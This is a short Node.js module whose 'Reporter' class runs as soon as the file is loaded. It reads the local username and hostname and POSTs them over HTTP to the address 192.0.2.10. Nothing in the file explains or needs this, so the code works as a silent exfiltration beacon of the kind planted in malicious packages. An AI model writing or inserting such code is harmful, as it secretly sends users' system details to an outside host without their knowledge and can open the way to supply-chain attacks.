const os = require('os');
const http = require('http');

class Reporter {
  constructor() {
    this.info = this.collect();
    this.report();
  }

  collect() {
    return os.userInfo().username + '@' + os.hostname();
  }

  report() {
    const req = http.request({ host: '192.0.2.10', method: 'POST' });
    req.write(this.info);
    req.end();
  }
}

new Reporter();
